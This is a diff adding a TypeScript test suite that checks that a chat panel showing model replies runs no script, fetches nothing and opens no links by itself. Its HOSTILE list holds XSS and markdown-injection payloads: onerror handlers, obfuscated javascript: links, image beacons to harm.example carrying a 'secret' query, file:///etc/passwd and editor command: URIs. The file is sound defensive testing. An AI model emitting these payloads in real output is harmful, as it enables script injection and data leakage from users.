@@ -1,0 +1,182 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { growing, question, reply, state } from './samples.ts';
+import { usePanels } from './usePanels.ts';
+
+const open = usePanels();
+
+/** A reply of a model that means harm: each line tries to run script, to fetch, to style or to lead away. */
+const HOSTILE = [
+  '<script>window.harmed = 1</script>',
+  '<img src=x onerror="window.harmed = 1">',
+  '<svg onload="window.harmed = 1"><a href="javascript:window.harmed=1">x</a></svg>',
+  '<iframe srcdoc="<script>parent.harmed = 1</script>"></iframe>',
+  '<style>body { background: url(https://harm.example/style) }</style>',
+  '<a href="https://harm.example" onclick="window.harmed = 1">x</a>',
+  '<meta http-equiv="refresh" content="0;url=https://harm.example/">',
+  '<base href="https://harm.example/">',
+  '![p](https://harm.example/picture.png?q=secret)',
+  '![p](http://127.0.0.1:9/picture.png)',
+  '![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
+  '![p][ref]',
+  '[![p](https://harm.example/in-link.png)](https://harm.example/link)',
+  '[link](javascript:window.harmed=1)',
+  '[link](JaVaScRiPt:window.harmed=1)',
+  '[link](&#x6A;avascript:window.harmed=1)',
+  '[link](java\tscript:window.harmed=1)',
+  '[link](data:text/html,<script>window.harmed=1</script>)',
+  '[link](vbscript:harm)',
+  '[link](file:///etc/passwd)',
+  '[link](command:workbench.action.terminal.new)',
+  '[link](vscode://harm.extension/run)',
+  '[link](vscode-insiders://harm.extension/run)',
+  '[link](http://harm.example/plain)',
+  '[link](//harm.example/relative)',
+  '[link](https://harm.example/"onmouseover="window.harmed=1)',
+  '[link](https://harm.example "title" onclick="window.harmed=1")',
+  '[link][ref]',
+  '<javascript:window.harmed=1>',
+  '<https://harm.example/auto>',
+  '',
+  '[ref]: command:workbench.action.quit "title"',
+  '',
+  '```html" onmouseover="window.harmed=1',
+  '<script>window.harmed = 1</script>',
+  '```',
+  '',
+  '```<img src=x onerror=window.harmed=1>',
+  '```',
+  '',
+  '| <img src=x onerror=window.harmed=1> | ![p](https://harm.example/cell.png) |',
+  '|:--|--:|',
+  '| a" onclick="window.harmed=1 | `<script>` |',
+  '',
+  '1. <!-- --><script>window.harmed = 1</script>',
+].join('\n\n');
+
+const ALLOWED_TAGS = new Set(
+  (
+    'MAIN DIV SPAN P H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD PRE CODE HR BR STRONG EM S ' +
+    'A KBD BUTTON TEXTAREA ARTICLE TIME svg circle'
+  ).split(' '),
+);
+
+async function assertHarmless(panel: Awaited<ReturnType<typeof open>>): Promise<void> {
+  const found = await panel.page.evaluate(() => {
+    const all = [...document.body.querySelectorAll('*')];
+    return {
+      harmed: Reflect.get(window, 'harmed'),
+      tags: [...new Set(all.map((part) => part.tagName))],
+      attributes: [...new Set(all.flatMap((part) => part.getAttributeNames()))],
+      targets: all.map((part) => part.getAttribute('href')).filter((target) => target !== null),
+    };
+  });
+  assert.equal(found.harmed, undefined);
+  assert.deepEqual(
+    found.tags.filter((tag) => !ALLOWED_TAGS.has(tag)),
+    [],
+  );
+  assert.deepEqual(
+    found.attributes.filter((name) => /^on|^src|^style$|^action|^formaction|^background|^poster/.test(name)),
+    [],
+  );
+  assert.deepEqual(
+    found.targets.filter((target) => !/^(https:\/\/|mailto:)/.test(target)),
+    [],
+  );
+  assert.ok(found.targets.length >= 3, 'links that may be opened are links');
+  assert.deepEqual(panel.strangeRequests, []);
+  assert.deepEqual(panel.errors, []);
+  assert.deepEqual(await panel.violations(), []);
+}
+
+for (const bypassPolicy of [false, true]) {
+  const name = bypassPolicy ? 'without the page’s policy' : 'under the page’s policy';
+
+  test(`a hostile reply runs nothing and fetches nothing, ${name}`, async () => {
+    const panel = await open({ bypassPolicy });
+    await panel.tell(
+      state({ turns: [question(HOSTILE, { id: 'question' }), reply(HOSTILE, { model: HOSTILE })] }),
+    );
+    await panel.frame();
+    await assertHarmless(panel);
+    assert.match(await panel.text(panel.log), /<img src=x onerror="window\.harmed = 1">/);
+    assert.match(await panel.text(panel.log), /\[picture: p — harm\.example\]/);
+  });
+
+  test(`nor does it while it grows, ${name}`, async () => {
+    const panel = await open({ bypassPolicy });
+    await panel.tell(state({ turns: [question('Why?'), growing('')] }));
+    for (let end = 0; end <= HOSTILE.length; end += 200) {
+      const cuts = Array.from({ length: 200 }, (_, index) => end + index);
+      await panel.tell(
+        ...cuts.map((cut) => ({
+          type: 'replyChanged' as const,
+          turn: growing(HOSTILE.slice(0, cut)),
+        })),
+      );
+    }
+    await panel.frame();
+    await assertHarmless(panel);
+  });
+}
+
+test('the policy of the page refuses what a renderer might let through', async () => {
+  const panel = await open();
+  const refused = panel.page.waitForEvent('requestfailed');
+  await panel.page.evaluate(() => {
+    const picture = document.createElement('img');
+    picture.setAttribute('src', 'https://harm.example/picture.png');
+    document.body.append(picture);
+    try {
+      document.body.insertAdjacentHTML('beforeend', '<b>text</b>');
+    } catch {
+      // What trusted types are for.
+    }
+  });
+  assert.equal((await refused).failure()?.errorText, 'csp');
+  await panel.page.waitForFunction(() => window.violations.length === 2);
+  assert.equal(await panel.page.locator('b').count(), 0);
+});
+
+test('a link opens nothing by itself: a click asks the host', async () => {
+  const panel = await open();
+  const text = '[one](https://example.org/a?b=c) [two](mailto:a@example.org) [three](command:harm)';
+  await panel.tell(state({ turns: [question('Why?'), reply(text)] }));
+  const address = panel.page.url();
+  const reachedDocument = await panel.page.evaluate(() => {
+    const seen: string[] = [];
+    document.addEventListener('click', (event) => seen.push(String(event.target)));
+    document.addEventListener('auxclick', (event) => seen.push(String(event.target)));
+    Object.assign(window, { seen });
+    return seen;
+  });
+  assert.deepEqual(reachedDocument, []);
+  await panel.page.getByRole('link', { name: 'one' }).click();
+  await panel.page.getByRole('link', { name: 'two' }).press('Enter');
+  await panel.posted('openLink', 2);
+  await panel.page.getByRole('link', { name: 'one' }).click({ button: 'middle' });
+  await panel.page.getByText('three (command:harm)').click();
+  assert.deepEqual(
+    panel.saidOf('openLink').map((message) => message.href),
+    ['https://example.org/a?b=c', 'mailto:a@example.org'],
+  );
+  assert.equal(panel.page.url(), address);
+  assert.equal(panel.page.context().pages().length, 1);
+  const seen: string[] = await panel.page.evaluate(() => Reflect.get(window, 'seen'));
+  assert.equal(seen.filter((target) => target.startsWith('http') || target.startsWith('mailto')).length, 0);
+});
+
+test('messages that are not the protocol’s change nothing', async () => {
+  const panel = await open();
+  await panel.tell(state({ turns: [question('Why?'), reply('So')] }));
+  const before = await panel.page.locator('main').innerHTML();
+  await panel.page.evaluate(() => {
+    for (const message of [null, 1, 'state', {}, { type: 'state' }, { type: 'turnAdded', turn: {} }]) {
+      window.postMessage(message, window.origin);
+    }
+  });
+  await panel.tell();
+  assert.equal(await panel.page.locator('main').innerHTML(), before);
+  assert.deepEqual(panel.errors, []);
+});
